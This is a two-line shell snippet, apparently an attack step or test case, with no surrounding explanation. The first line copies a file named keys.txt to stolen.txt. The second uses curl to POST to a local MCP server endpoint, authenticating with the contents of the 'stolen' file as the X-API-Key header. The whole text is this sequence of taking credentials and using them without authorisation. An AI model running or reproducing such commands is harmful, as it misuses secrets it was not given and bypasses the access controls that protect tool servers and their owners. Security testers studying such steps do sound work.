cp keys.txt stolen.txt
curl -s http://127.0.0.1:8765/mcp -X POST -H "X-API-Key: $(cat stolen.txt)"
